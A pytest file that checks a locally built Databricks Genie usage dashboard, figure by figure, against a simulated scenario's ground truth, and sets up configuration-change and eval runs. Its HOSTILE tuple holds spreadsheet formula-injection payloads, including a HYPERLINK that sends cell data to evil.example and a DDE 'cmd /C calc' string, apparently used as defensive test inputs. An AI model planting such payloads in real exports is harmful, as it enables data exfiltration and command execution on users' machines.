"""Every headline figure of the local dashboard against the sandbox's ground truth, without a browser.

The page (``dashboard/static/dashboard.js``) only sums and divides the embedded datasets (``sql/dashboards/*.sql``)
for the selected workspace; ``page_figures`` below does the same sums in Python on the data embedded in the written
``index.html``, one entry per KPI card and per chart series, and ``true_figures`` computes each of them from the
scenario alone (through ``test_marts.truth``), never from our tables. Both run for every workspace filter ('all' and
each workspace). ``test_marts`` compares the marts row by row; this compares what the page shows.

Figures without a ground truth in the scenario (when data was fetched, the age of the data) are compared with an
independent SQL over the base tables. When Chromium is installed, one test also checks that the page's own KPI
values equal ``page_figures`` (so that this Python reading of dashboard.js stays right).
"""

from __future__ import annotations

import datetime as dt
import json
import re
from collections import Counter, defaultdict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from genie_obs_dagster.dashboard.pack import unpack
from genie_obs_dagster.sandbox.server.wire import SQL_STATUSES

from .browser import chromium_or_skip, dump_dom
from .conftest import START, WORKSPACES
from .test_marts import Truth, World, _items, close, dashboard_file, percentile_cont, rate, truth, world  # noqa: F401

FILTERS = ("all", *WORKSPACES)
Data = dict[str, list[dict[str, Any]]]


def embedded_payload(text: str) -> dict[str, Any]:
    found = re.search(r'<script type="application/json" id="dashboard-data">(.*?)</script>', text, re.S)
    assert found, "no embedded data in the page"
    return json.loads(found.group(1))


def embedded_data(w: World) -> dict[str, Any]:
    """The data the written page carries, decoded as dashboard.js decodes it (``pack.unpack``: columns to rows,
    the compressed detail inflated): what the browser draws from."""
    payload = embedded_payload(dashboard_file(w).read_text())
    data = unpack(payload)
    for m, text in zip(data["messages"], data["message_text"], strict=False):  # as dashboard.js attaches them
        m.update(text)
    return {**payload, "datasets": data}


# -- what the page shows: dashboard.js's sums, in Python -----------------------------------------------------


def _sum(rows: list[dict[str, Any]], key: str) -> float:
    return sum(r[key] or 0 for r in rows)


def _ratio(a: float, b: float) -> float | None:
    return a / b if b else None


def _per(rows: list[dict[str, Any]], by: Callable[[dict[str, Any]], Any], key: str | None = None) -> dict[Any, float]:
    """Sums of ``key`` (or row counts) per group, zero groups dropped (a chart draws nothing for them)."""
    out: dict[Any, float] = defaultdict(float)
    for r in rows:
        out[by(r)] += 1 if key is None else (r[key] or 0)
    return {k: v for k, v in out.items() if v}


def _period(data: Data, ws: str, first: str, last: str, space: str | None = None) -> dict[str, Any] | None:
    """The people_by_period row of a scope for the period [first, last] (None: not one of the periods)."""
    periods = {(str(r["first_day"])[:10], str(r["last_day"])[:10]) for r in data["people_by_period"]}
    if (first, last) not in periods:
        return None
    found = [r for r in data["people_by_period"] if (str(r["first_day"])[:10], str(r["last_day"])[:10]) == (first, last)
             and r["workspace_id"] == ws and r["space_id"] == space]
    return found[0] if found else {"askers": 0, "conversations": 0}


def page_figures(data: Data, ws: str) -> dict[str, Any]:
    """What dashboard.js shows for the whole date range ('All time') and the workspace filter ``ws``."""
    def rows(name: str) -> list[dict[str, Any]]:
        return [r for r in data[name] if ws == "all" or r["workspace_id"] == ws]

    def scoped(name: str) -> list[dict[str, Any]]:
        return [r for r in data[name] if r["scope"] == ws]

    act, lb, ph, fe = rows("daily_activity"), rows("space_leaderboard"), rows("pipeline_health"), rows("fetch_errors")
    sa, fl, neg = rows("space_activity"), rows("failures"), rows("negative_feedback")
    texts = [m for m in data["messages"][: len(data["message_text"])] if ws == "all" or m["workspace_id"] == ws]
    perf, hist, sc, ch = rows("sql_performance"), rows("sql_duration_histogram"), rows("space_config"), rows("config_changes")
    ad, top = scoped("adoption_daily"), scoped("top_askers")
    days = sorted(r["activity_date"] for r in data["daily_activity"])
    everyone = _period(data, ws, days[0], days[-1]) if days else None
    people = everyone["askers"] if everyone else 0
    finished = _sum(act, "completed") + _sum(act, "failed") + _sum(act, "cancelled")
    last = ad[-1] if ad else None
    space = lambda r: (r["workspace_id"], r["space_id"])  # noqa: E731
    day = lambda r: r["activity_date"]  # noqa: E731
    per_space = defaultdict(list)
    for r in sa:
        per_space[space(r)].append(r)
    sums = {k: {c: _sum(v, c) for c in ("questions", "completed", "failed", "cancelled", "positive_feedback", "negative_feedback")}
            for k, v in per_space.items()}
    marts = {space(r): r for r in lb}
    per_day_statements = _per(act, day, "sql_statements")
    per_day_duration = _per(act, day, "sql_total_duration_ms")
    return {
        # executive summary: KPI cards
        "kpi questions": _sum(act, "questions"),
        "kpi conversations": everyone["conversations"] if everyone else 0,
        "kpi people asking": people,
        "kpi spaces used": sum(1 for s in sums.values() if s["questions"] > 0),
        "kpi success rate": _ratio(_sum(act, "completed"), finished),
        "kpi positive feedback share": _ratio(_sum(act, "positive_feedback"),
                                              _sum(act, "positive_feedback") + _sum(act, "negative_feedback")),
        "kpi coverage": _ratio(_sum(ph, "messages_with_details"), _sum(ph, "messages_listed")),
        # executive summary: charts
        "questions per day by outcome": {o: _per(act, day, o) for o in ("completed", "failed", "cancelled", "in_progress", "not_fetched")},
        "outcomes donut": {o: _sum(act, o) for o in ("completed", "failed", "cancelled", "in_progress", "not_fetched")},
        "top spaces": {k: s["questions"] for k, s in sums.items() if s["questions"]},
        "active askers per day": {r["activity_date"]: r["active_askers"] for r in ad if r["active_askers"]},
        "weekly active askers per day": {r["activity_date"]: r["weekly_active_askers"] for r in ad if r["weekly_active_askers"]},
        # usage
        "questions per day by space": _per(sa, lambda r: (space(r), day(r)), "questions"),
        "success rate by space": {k: _ratio(s["completed"], s["completed"] + s["failed"] + s["cancelled"]) for k, s in sums.items()
                                  if s["completed"] + s["failed"] + s["cancelled"]},
        "new conversations per day": _per(act, day, "new_conversations"),
        "continued conversations per day": {k: v for k, v in {
            d: _per(act, day, "conversations").get(d, 0) - _per(act, day, "new_conversations").get(d, 0)
            for d in _per(act, day, "conversations")}.items() if v},
        "askers by space": {k: marts[k]["askers"] for k, s in sums.items() if s["questions"]},
        "space leaderboard ranks": [r["questions"] for r in sorted(sums.values(), key=lambda s: -s["questions"])],
        # quality and feedback
        "kpi failed answers": _sum(act, "failed"),
        "kpi failure rate": _ratio(_sum(act, "failed"), finished),
        "kpi rated positive": _sum(act, "positive_feedback"),
        "kpi rated negative": _sum(act, "negative_feedback"),
        "kpi review requests": _sum(act, "review_requests"),
        "feedback per day": {k: _per(act, day, k) for k in ("positive_feedback", "negative_feedback", "review_requests")},
        "failures by error type": _per(fl, lambda r: r["error_type"], "failures"),
        "failures per day by error type": _per(fl, lambda r: (r["error_type"], day(r)), "failures"),
        "feedback by space": {k: (s["positive_feedback"], s["negative_feedback"]) for k, s in sums.items()
                              if s["positive_feedback"] + s["negative_feedback"] > 0},
        "answers rated negative": sorted(r["message_id"] for r in neg),
        # prompts and SQL: the search with no words (every message the page carries the text of)
        "answer kinds donut": {
            "sql": sum(1 for r in texts if r["query_sql"]),
            "text only": sum(1 for r in texts if not r["query_sql"] and r["outcome"] == "completed"),
            "no answer": sum(1 for r in texts if not r["query_sql"] and r["outcome"] != "completed")},
        "messages found by space": _per(texts, space),
        # SQL performance
        "kpi sql statements": _sum(perf, "statements"),
        "kpi failed statements": _sum(perf, "failed_statements"),
        "kpi average duration": _ratio(_sum(act, "sql_total_duration_ms"), _sum(perf, "statements_with_history")),
        "kpi rows read": _sum(act, "read_rows"),
        "kpi data read": _sum(act, "read_bytes"),
        "duration histogram": _per(hist, lambda r: r["bucket"], "statements"),
        "duration p50 and p90 by space": {space(r): (r["duration_p50_ms"], r["duration_p90_ms"]) for r in perf},
        "failed statements per day": _per(act, day, "failed_statements"),
        "succeeded statements per day": {d: n - _per(act, day, "failed_statements").get(d, 0)
                                         for d, n in per_day_statements.items() if n - _per(act, day, "failed_statements").get(d, 0)},
        "average duration per day": {d: per_day_duration.get(d, 0) / n for d, n in per_day_statements.items()},
        # adoption
        "kpi people": people,
        "kpi active on the last day": last["active_askers"] if last else None,
        "kpi active in the last 7 days": last["weekly_active_askers"] if last else None,
        "kpi questions per person": _ratio(_sum(act, "questions"), people),
        "new askers per day": {r["activity_date"]: r["new_askers"] for r in ad if r["new_askers"]},
        "returning askers per day": {r["activity_date"]: r["returning_askers"] for r in ad if r["returning_askers"]},
        "top users": [(r["asker"], r["questions"]) for r in top][:10],
        # space configuration
        "what each space knows": {space(r): (r["tables"], r["example_sqls"] + r["text_instructions"], r["benchmarks"]) for r in sc},
        "configuration versions": Counter(space(r) for r in ch),
        # pipeline health
        "kpi health coverage": _ratio(_sum(ph, "messages_with_details"), _sum(ph, "messages_listed")),
        "kpi pending": _sum(ph, "messages_pending"),
        "kpi missing details": _sum(ph, "messages_missing"),
        "kpi open fetch errors": _sum(fe, "open_errors"),
        "kpi found only by the api": _sum(ph, "messages_api_only"),
        "coverage by workspace": {r["workspace_id"]: r["coverage"] for r in ph},
        "open fetch errors by type": {(r["workspace_id"], r["object_type"], r["error_type"]): r["open_errors"]
                                      for r in fe if r["open_errors"] > 0},
        "audit events and latest audit event": {r["workspace_id"]: (r["audit_events"], r["latest_audit_event_time"]) for r in ph},
    }


# -- the ground truth, from the scenario only -----------------------------------------------------------------

BUCKETS = ((250, "< 0.25 s"), (1000, "0.25-1 s"), (2000, "1-2 s"), (5000, "2-5 s"), (10000, "5-10 s"), (30000, "10-30 s"))


def _bucket(ms: int) -> str:
    return next((name for limit, name in BUCKETS if ms < limit), ">= 30 s")


def _drop_zero(d: dict[Any, float]) -> dict[Any, float]:
    return {k: v for k, v in d.items() if v}


def true_figures(w: World, ws: str) -> dict[str, Any]:
    everything = truth(w)
    t = [x for k, x in everything.items() if ws == "all" or k[0] == ws]
    audit = {k for k in w.scenario.expected_messages_to_fetch() if ws == "all" or k[0] == ws}
    listed = [everything[k] for k in audit]
    iso = lambda d: d.isoformat()  # noqa: E731
    space = lambda x: (x.m.workspace_id, x.m.space_id)  # noqa: E731
    n = Counter(x.outcome for x in t)
    finished = n["completed"] + n["failed"] + n["cancelled"]
    pos, negative = sum(x.rating == "POSITIVE" for x in t), sum(x.rating == "NEGATIVE" for x in t)
    stmts = [x for x in t if x.statement]
    askers = {x.asker for x in t}
    by_day: dict[dt.date, set[str]] = defaultdict(set)
    for x in t:
        by_day[x.day].add(x.asker)
    spine = sorted(by_day)
    spine = [spine[0] + dt.timedelta(days=i) for i in range((spine[-1] - spine[0]).days + 1)]
    first: dict[str, dt.date] = {}
    for d in spine:
        for a in sorted(by_day.get(d, ())):
            first.setdefault(a, d)
    weekly = {d: set().union(*(by_day.get(d - dt.timedelta(days=i), set()) for i in range(7))) for d in spine}
    started: dict[tuple[str, str], dt.datetime] = {}
    for x in everything.values():
        conv = (x.m.workspace_id, x.m.conversation_id)
        started[conv] = min(started.get(conv, x.m.created_at), x.m.created_at)
    day_convs: dict[dt.date, set[tuple[str, str]]] = defaultdict(set)
    for x in t:
        day_convs[x.day].add((x.m.workspace_id, x.m.conversation_id))
    new_convs = {iso(d): sum(started[c].date() == d for c in cs) for d, cs in day_convs.items()}
    per_space: dict[tuple[str, str], list[Truth]] = defaultdict(list)
    for x in t:
        per_space[space(x)].append(x)
    fetched_listed = [x for x in listed if x.fetched]
    gone_space = w.deleted_space if ws in ("all", w.deleted_space.workspace_id) else None
    live_spaces = [s for s in w.scenario.spaces if s is not w.deleted_space and (ws == "all" or s.workspace_id == ws)]
    per_asker = Counter(x.asker for x in t)
    genie_rows = defaultdict(list)
    for e in w.loaded_audit:
        if e["service_name"] == "aibiGenie":
            genie_rows[e["workspace_id"]].append(e)
    has_sql = lambda x: x.fetched and bool(x.m.sql) and x.status in SQL_STATUSES  # noqa: E731
    durations = lambda xs: [x.statement["total_duration_ms"] for x in xs if x.statement]  # noqa: E731
    stmt_days = Counter(iso(x.day) for x in stmts)
    return {
        "kpi questions": len(t),
        "kpi conversations": len({(x.m.workspace_id, x.m.conversation_id) for x in t}),
        "kpi people asking": len(askers),
        "kpi spaces used": len(per_space),
        "kpi success rate": rate(n["completed"], finished),
        "kpi positive feedback share": rate(pos, pos + negative),
        "kpi coverage": rate(len(fetched_listed), len(listed)),
        "questions per day by outcome": {o: dict(Counter(iso(x.day) for x in t if x.outcome == o))
                                         for o in ("completed", "failed", "cancelled", "in_progress", "not_fetched")},
        "outcomes donut": {o: n[o] for o in ("completed", "failed", "cancelled", "in_progress", "not_fetched")},
        "top spaces": {k: len(v) for k, v in per_space.items()},
        "active askers per day": {iso(d): len(a) for d, a in by_day.items()},
        "weekly active askers per day": {iso(d): len(a) for d, a in weekly.items() if a},
        "questions per day by space": dict(Counter((space(x), iso(x.day)) for x in t)),
        "success rate by space": {k: rate(c["completed"], c["completed"] + c["failed"] + c["cancelled"])
                                  for k, v in per_space.items() if (c := Counter(x.outcome for x in v))
                                  and c["completed"] + c["failed"] + c["cancelled"]},
        "new conversations per day": _drop_zero(new_convs),
        "continued conversations per day": _drop_zero({iso(d): len(cs) - new_convs[iso(d)] for d, cs in day_convs.items()}),
        "askers by space": {k: len({x.asker for x in v}) for k, v in per_space.items()},
        "space leaderboard ranks": sorted((len(v) for v in per_space.values()), reverse=True),
        "kpi failed answers": n["failed"],
        "kpi failure rate": rate(n["failed"], finished),
        "kpi rated positive": pos,
        "kpi rated negative": negative,
        "kpi review requests": sum(x.review for x in t),
        "feedback per day": {
            "positive_feedback": dict(Counter(iso(x.day) for x in t if x.rating == "POSITIVE")),
            "negative_feedback": dict(Counter(iso(x.day) for x in t if x.rating == "NEGATIVE")),
            "review_requests": dict(Counter(iso(x.day) for x in t if x.review))},
        "failures by error type": dict(Counter(x.m.error_type or "UNKNOWN" for x in t if x.outcome == "failed")),
        "failures per day by error type": dict(Counter((x.m.error_type or "UNKNOWN", iso(x.day)) for x in t if x.outcome == "failed")),
        "feedback by space": {k: (p, q) for k, v in per_space.items()
                              if (p := sum(x.rating == "POSITIVE" for x in v)) + (q := sum(x.rating == "NEGATIVE" for x in v))},
        "answers rated negative": sorted(x.m.message_id for x in t if x.rating == "NEGATIVE"),
        "answer kinds donut": {"sql": sum(has_sql(x) for x in t),
                               "text only": sum(not has_sql(x) and x.outcome == "completed" for x in t),
                               "no answer": sum(not has_sql(x) and x.outcome != "completed" for x in t)},
        "messages found by space": dict(Counter(space(x) for x in t)),
        "kpi sql statements": len(stmts),
        "kpi failed statements": sum(x.statement["execution_status"] == "FAILED" for x in stmts),
        "kpi average duration": rate(sum(durations(stmts)), len(stmts)),
        "kpi rows read": sum(x.statement["read_rows"] for x in stmts),
        "kpi data read": sum(x.statement["read_bytes"] for x in stmts),
        "duration histogram": dict(Counter(_bucket(d) for d in durations(stmts))),
        "duration p50 and p90 by space": {k: (percentile_cont(durations(v), 0.5), percentile_cont(durations(v), 0.9))
                                          for k, v in per_space.items() if durations(v)},
        "failed statements per day": dict(Counter(iso(x.day) for x in stmts if x.statement["execution_status"] == "FAILED")),
        "succeeded statements per day": dict(Counter(iso(x.day) for x in stmts if x.statement["execution_status"] != "FAILED")),
        "average duration per day": {d: sum(durations([x for x in stmts if iso(x.day) == d])) / c for d, c in stmt_days.items()},
        "kpi people": len(askers),
        "kpi active on the last day": len(by_day.get(spine[-1], ())),
        "kpi active in the last 7 days": len(weekly[spine[-1]]),
        "kpi questions per person": rate(len(t), len(askers)),
        "new askers per day": _drop_zero({iso(d): sum(first[a] == d for a in by_day.get(d, ())) for d in spine}),
        "returning askers per day": _drop_zero({iso(d): sum(first[a] != d for a in by_day.get(d, ())) for d in spine}),
        "top users": sorted(per_asker.items(), key=lambda kv: (-kv[1], kv[0]))[:10],
        "what each space knows": {
            (s.workspace_id, s.space_id): (c["table"] + c["metric_view"], c["example_sql"] + c["text_instruction"], c["benchmark"])
            for s in live_spaces if (c := Counter(kind for kind, _ in _items(s.serialized_space))) is not None},
        "configuration versions": Counter({(s.workspace_id, s.space_id): 2 if s is w.changed_space else 1 for s in live_spaces}),
        "kpi health coverage": rate(len(fetched_listed), len(listed)),
        "kpi pending": sum(x.outcome == "in_progress" for x in t),
        "kpi missing details": len(listed) - len(fetched_listed),
        "kpi open fetch errors": len(listed) - len(fetched_listed) + (1 if gone_space else 0),
        "kpi found only by the api": sum(1 for k, x in everything.items() if (ws == "all" or k[0] == ws) and k not in audit),
        "coverage by workspace": {v: rate(sum(x.fetched for k, x in everything.items() if k[0] == v and k in audit),
                                          sum(1 for k in audit if k[0] == v))
                                  for v in WORKSPACES if ws in ("all", v)},
        "open fetch errors by type": _drop_zero({
            (gone_space.workspace_id, "message", "NOT_FOUND"): len(listed) - len(fetched_listed),
            (gone_space.workspace_id, "space", "NOT_FOUND"): 1} if gone_space else {}),
        "audit events and latest audit event": {
            v: (len(genie_rows[v]), max(e["event_time"] for e in genie_rows[v]).astimezone(dt.timezone.utc).isoformat(timespec="seconds"))
            for v in WORKSPACES if ws in ("all", v)},
    }


FIGURES = tuple(page_figures({n: [] for n in ("daily_activity", "space_activity", "space_leaderboard", "pipeline_health",
                                               "fetch_errors", "failures", "negative_feedback", "messages", "message_text",
                                               "sql_performance", "sql_duration_histogram", "space_config", "config_changes",
                                               "adoption_daily", "top_askers", "people_by_period")}, "all"))


def same(got: Any, want: Any) -> bool:
    """Equal, floats within rounding (ratios and averages), containers element-wise."""
    if isinstance(want, dict) and isinstance(got, dict):
        return set(got) == set(want) and all(same(got[k], want[k]) for k in want)
    if isinstance(want, (list, tuple)) and isinstance(got, (list, tuple)):
        return len(got) == len(want) and all(same(a, b) for a, b in zip(got, want, strict=True))
    if isinstance(want, float) or isinstance(got, float):
        return close(None if got is None else float(got), None if want is None else float(want))
    return got == want


@pytest.fixture(scope="module")
def shown(world: World) -> dict[str, dict[str, Any]]:  # noqa: F811
    data = embedded_data(world)["datasets"]
    return {ws: page_figures(data, ws) for ws in FILTERS}


@pytest.fixture(scope="module")
def expected(world: World) -> dict[str, dict[str, Any]]:  # noqa: F811
    return {ws: true_figures(world, ws) for ws in FILTERS}


def test_the_figures_cover_every_kpi_card_of_the_page() -> None:
    js = (Path(__file__).resolve().parents[1]
          / "genie_obs_dagster" / "dashboard" / "static" / "dashboard.js").read_text()
    cards = re.findall(r'\{ id: "([a-z_0-9]+)", label: "[^"]*", get: ', js)  # kpis([...]) items
    assert len(cards) == len(set(cards)) == 33, cards
    pages = [c for c in cards if not c.startswith("space_")]  # a space's own page: test_dashboard_browser.py
    assert len(pages) == 26
    assert sum(f.startswith("kpi ") for f in FIGURES) == len(pages)


@pytest.mark.parametrize("ws", FILTERS)
@pytest.mark.parametrize("figure", FIGURES)
def test_the_page_shows_the_true_figure(shown: dict[str, dict[str, Any]], expected: dict[str, dict[str, Any]],
                                        figure: str, ws: str) -> None:
    got, want = shown[ws][figure], expected[ws][figure]
    assert same(got, want), (figure, ws, got, want)


def test_the_scenario_makes_every_figure_non_trivial(expected: dict[str, dict[str, Any]]) -> None:
    """Guard: a figure that is zero or empty everywhere would prove little."""
    empty = [f for f in FIGURES if not expected["all"][f] and expected["all"][f] != 0.0]
    assert not empty, empty
    zero = [f for f in FIGURES if expected["all"][f] in (0, None, {}, [])]
    assert not zero, zero


# -- figures without a ground truth: independent SQL over the base tables -----------------------------------


def test_freshness_figures_match_the_base_tables(world: World) -> None:  # noqa: F811
    """When data was last fetched has no ground truth in the scenario (wall-clock times of this run)."""
    ph = {r["workspace_id"]: r for r in embedded_data(world)["datasets"]["pipeline_health"]}
    for ws in WORKSPACES:
        (fetch,), (space_fetch,) = (world.env.rows(
            f"SELECT MAX(fetched_at) FROM main.genie_analytics.{table} WHERE workspace_id = :w", {"w": ws})  # noqa: S608
            for table in ("message_details", "genie_space_details"))
        as_iso = lambda v: v.astimezone(dt.timezone.utc).isoformat(timespec="seconds") if v.tzinfo else v.isoformat(timespec="seconds")  # noqa: E731
        assert ph[ws]["latest_fetch_time"] == as_iso(fetch[0]), ws
        assert ph[ws]["latest_space_fetch_time"] == as_iso(space_fetch[0]), ws


# -- what the date range, the filters and the search read: per-message facts, texts, people per period ---------


def test_the_page_carries_every_message_with_its_true_facts_and_texts(world: World) -> None:  # noqa: F811
    """At sandbox size every message is embedded: its time, space, asker, conversation, outcome, error type,
    feedback, review and SQL duration, and the text the API shows (question, SQL and description, answer)."""
    data, t = embedded_data(world)["datasets"], truth(world)
    facts = data["messages"]
    assert len(facts) == len(data["message_text"]) == len(t)
    minute = lambda d: int(d.timestamp() // 60)  # noqa: E731
    shown = Counter((m["workspace_id"], m["space_id"], m["t"], m["asker"], m["outcome"], m["error_type"], m["feedback_rating"],
                     bool(m["review_requested"]), bool(m["has_statement"]), m["sql_total_duration_ms"], m["question"],
                     m["query_sql"]) for m in facts)
    want = Counter((x.m.workspace_id, x.m.space_id, minute(x.m.created_at), x.asker, x.outcome,
                    (x.m.error_type or "UNKNOWN") if x.outcome == "failed" else None, x.rating, x.review, x.statement is not None,
                    x.statement["total_duration_ms"] if x.statement else None, x.m.content if x.fetched else None,
                    x.m.sql if x.fetched and x.m.sql and x.status in SQL_STATUSES else None) for x in t.values())
    assert shown == want
    # conversations are numbers on the page: as many as the scenario has, each message in its own one
    by_conv = defaultdict(set)
    for m in facts:
        by_conv[m["conversation"]].add((m["workspace_id"], m["t"], m["asker"]))
    assert len(by_conv) == len({(x.m.workspace_id, x.m.conversation_id) for x in t.values()})
    started = Counter(m["workspace_id"] for m in facts if m["starts_conversation"])
    assert started == Counter(ws for ws, _ in {(x.m.workspace_id, x.m.conversation_id) for x in t.values()})


def test_people_per_period_are_true(world: World) -> None:  # noqa: F811
    """Distinct askers and conversations of the date-range presets, per workspace, overall and per space."""
    rows, t = embedded_data(world)["datasets"]["people_by_period"], truth(world)
    last = max(x.day for x in t.values())
    assert {r["period"] for r in rows} == {"all", "last_7", "last_30", "last_90"}  # 5 days: nothing before
    for r in rows:
        lo, hi = dt.date.fromisoformat(r["first_day"]), dt.date.fromisoformat(r["last_day"])
        assert hi == last
        xs = [x for x in t.values() if lo <= x.day <= hi and r["workspace_id"] in ("all", x.m.workspace_id)
              and r["space_id"] in (None, x.m.space_id)]
        assert (r["askers"], r["conversations"]) == (len({x.asker for x in xs}),
                                                     len({(x.m.workspace_id, x.m.conversation_id) for x in xs})), r
    assert len(rows) == 4 * (1 + len(WORKSPACES) + len({(x.m.workspace_id, x.m.space_id) for x in t.values()}))


def test_the_query_keeps_the_message_budgets_the_page_states() -> None:
    """sql/dashboards/messages.sql bounds the messages (and their texts) with the budgets pack.py reports."""
    from genie_obs_dagster.dashboard import pack
    from genie_obs_dagster.warehouse import sql as sqlmod

    text = sqlmod.file_text("dashboards/messages")
    assert {int(n) for n in re.findall(r"up_to_day <= (\d+)", text)} == {pack.MESSAGE_BUDGET, pack.TEXT_BUDGET}
    assert f"{pack.MESSAGE_BUDGET:,}" in text and f"{pack.TEXT_BUDGET:,}" in text  # and its comment says so


def test_what_changed_in_each_configuration_version_is_true(world: World) -> None:  # noqa: F811
    rows = embedded_data(world)["datasets"]["config_item_changes"]
    s = world.changed_space
    assert {(r["space_id"], r["version_number"], r["change"], r["item_type"], r["item_text"]) for r in rows} == {
        (s.space_id, 2, "added", "sample_question", "Added later?"),
        (s.space_id, 2, "removed", "title", s.title.removesuffix(" (v2)")),
        (s.space_id, 2, "added", "title", s.title)}


# -- the space lifecycle: configuration changes and benchmark (eval) runs, from a pipeline run --------------------

LIFECYCLE_CHANGES = {WORKSPACES[0]: 1, WORKSPACES[1]: 3}  # the day of the scenario a space of each workspace changes
EVAL_DAYS = (0, 2)  # eval ticks (06:00 UTC): every space with benchmarks and a schedule is evaluated on both
HOSTILE = ('=HYPERLINK("https://evil.example/payload?d="&A1,"Open the report")', "@SUM(1+1)*cmd|' /C calc'!A0 payload",
           "+1+1 payload: revenue by region?", "-1+1 payload: orders by week?")  # questions that look like formulas


@dataclass(frozen=True)
class Lifecycle:
    """A pipeline run against simulated workspaces holding configuration changes and benchmark runs (the
    simulated workspaces are stopped once the page is written: what the tests read is on disk or here)."""

    page: Path
    changes: list[dict[str, Any]]  # mart_space_config_changes, every column
    runs: list[dict[str, Any]]  # mart_eval_accuracy, every column
    changed: dict[tuple[str, str], dt.datetime]  # the configuration changes made: (workspace, space) -> when
    simulated: dict[str, tuple[str, str, dt.datetime, tuple[str, ...]]]  # every eval run the workspaces made:
    # id -> (workspace, space, created, assessments in order)
    messages: list[Any]  # the scenario's messages
    no_benchmarks: tuple[str, str]  # a space without benchmark questions
    schedule_off: tuple[str, str]  # a space with benchmarks whose eval schedule is null in the settings

    def start(self, day: int) -> dt.date:
        return START + dt.timedelta(days=day)


class _Clock:
    """The simulated workspaces' clock: real time unless set (eval runs progress on it)."""

    def __init__(self) -> None:
        self.fixed: dt.datetime | None = None

    def __call__(self) -> dt.datetime:
        return self.fixed or dt.datetime.now(dt.timezone.utc)


_LIFECYCLE: dict[str, Lifecycle] = {}


def lifecycle_world(tmp_path_factory: pytest.TempPathFactory) -> Lifecycle:
    """Built once per test session (the browser tests read the same page): ingest both workspaces, change one
    space of each (at noon of its day, then fetched), run benchmarks on EVAL_DAYS, build the marts and the page."""
    if "built" in _LIFECYCLE:
        return _LIFECYCLE["built"]
    from genie_obs_dagster.assets.evals import AS_OF_TAG, EVAL_JOB
    from genie_obs_dagster.sandbox.server import SimConfig, SimulatedDatabricks, WorkspaceFaults
    from genie_obs_dagster.sandbox.server.evals import (
        EvalTiming,
        benchmark_questions,
        set_eval_timing,
        store_of,
    )

    from .conftest import ApiEnv, make_scenario

    scenario = make_scenario()
    asked = {(m.workspace_id, m.space_id) for m in scenario.messages}
    spaces = {ws: [s for s in scenario.spaces if s.workspace_id == ws and (ws, s.space_id) in asked and benchmark_questions(s)]
              for ws in WORKSPACES}
    changed_spaces = {ws: spaces[ws][0] for ws in WORKSPACES}
    bare, off = spaces[WORKSPACES[0]][1], spaces[WORKSPACES[1]][1]
    bare.serialized_space["benchmarks"] = {"questions": []}
    for m, text in zip([m for m in scenario.messages if m.workspace_id == WORKSPACES[0]], HOSTILE, strict=False):
        m.content = text
    clock = _Clock()
    sim = SimulatedDatabricks(scenario, SimConfig(clock=clock, faults=WorkspaceFaults(requests_per_second=None)))
    sim.start()
    mp = pytest.MonkeyPatch()
    try:
        env = ApiEnv(tmp_path_factory.mktemp("lifecycle"), scenario, sim, mp,
                     evals={"cron": "0 5 * * *", "spaces": {off.space_id: None}})
        env.ingest_all()
        for ws in WORKSPACES:
            env.refresh_spaces(ws)
        changed = {}
        for ws, day in LIFECYCLE_CHANGES.items():
            space = changed_spaces[ws]
            cfg = space.serialized_space
            cfg["instructions"]["text_instructions"][0]["content"] = [f"Answer in EUR ({ws})."]
            cfg["data_sources"]["tables"].pop()
            space.update_time = dt.datetime.combine(START + dt.timedelta(days=day), dt.time(12), dt.timezone.utc)
            env.refresh_spaces(ws)
            changed[(ws, space.space_id)] = space.update_time
        job = env.defs.resolve_job_def(EVAL_JOB)
        for ws in WORKSPACES:
            set_eval_timing(sim.app(ws).state, EvalTiming(start_delay_s=5, seconds_per_question=10, failure_rate=0.0))
        for day in EVAL_DAYS:
            tick = dt.datetime.combine(START + dt.timedelta(days=day), dt.time(6), dt.timezone.utc)
            for at in (tick, tick + dt.timedelta(hours=1)):  # start the due runs, then collect them finished
                clock.fixed = at
                for ws in WORKSPACES:
                    assert job.execute_in_process(instance=env.instance, partition_key=ws, tags={AS_OF_TAG: at.isoformat()}).success
        clock.fixed = None
        result = env.run_marts()
        (event,) = [e for e in result.get_asset_materialization_events() if e.asset_key.to_user_string() == "genie_dashboard_html"]
        page = Path(event.event_specific_data.materialization.metadata["path"].value)
        simulated = {rid: (ws, r.space_id, r.created_at, tuple(q.assessment for q in r.questions))
                     for ws in WORKSPACES for rid, r in store_of(sim.app(ws).state).runs.items()}

        def mart(table: str) -> list[dict[str, Any]]:
            cols = env.wh.columns(table)
            return [dict(zip(cols, r, strict=True)) for r in env.wh.sql(f"SELECT {', '.join(cols)} FROM main.genie_analytics.{table}")]  # noqa: S608

        built = Lifecycle(page, mart("mart_space_config_changes"), mart("mart_eval_accuracy"), changed, simulated,
                          list(scenario.messages), (bare.workspace_id, bare.space_id), (off.workspace_id, off.space_id))
    finally:
        sim.stop()
        mp.undo()
    _LIFECYCLE["built"] = built
    return built


@pytest.fixture(scope="module")
def lifecycle(tmp_path_factory: pytest.TempPathFactory) -> Lifecycle:
    return lifecycle_world(tmp_path_factory)


def iso(v: Any) -> Any:
    """A mart value as the page carries it: times as ISO 8601 UTC to the second, days as ISO dates."""
    if isinstance(v, dt.datetime):
        return (v if v.tzinfo else v.replace(tzinfo=dt.timezone.utc)).astimezone(dt.timezone.utc).isoformat(timespec="seconds")
    return v.isoformat() if isinstance(v, dt.date) else v


def change_rows(changes: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The rows of mart_space_config_changes the page must carry (sql/dashboards/config_change_impact.sql but
    diff_json: pack.NOT_EMBEDDED), newest first."""
    def minus(a: float | None, b: float | None) -> float | None:
        return None if a is None or b is None else a - b

    rows = sorted(changes, key=lambda r: (r["workspace_id"], r["space_id"]))
    rows.sort(key=lambda r: r["changed_at"], reverse=True)
    return [{"workspace_id": r["workspace_id"], "workspace_name": r["workspace_name"] or r["workspace_id"],
             # no space of the scenario is renamed: its current title is the title the change left
             "space_id": r["space_id"], "space": r["space_title"] or r["space_id"], "title_after_change": r["space_title"],
             "version_number": r["version_number"],
             "changed_at": iso(r["changed_at"]), **{k: r[k] for k in (
                 "diff_summary", "sections_changed", "items_added", "items_removed", "items_changed", "window_days",
                 "questions_before", "success_rate_before", "negative_feedback_rate_before", "questions_after",
                 "success_rate_after", "negative_feedback_rate_after", "success_rate_change")},
             "negative_feedback_rate_change": minus(r["negative_feedback_rate_after"], r["negative_feedback_rate_before"])}
            for r in rows]


def run_rows(runs: list[dict[str, Any]]) -> list[dict[str, Any]]:
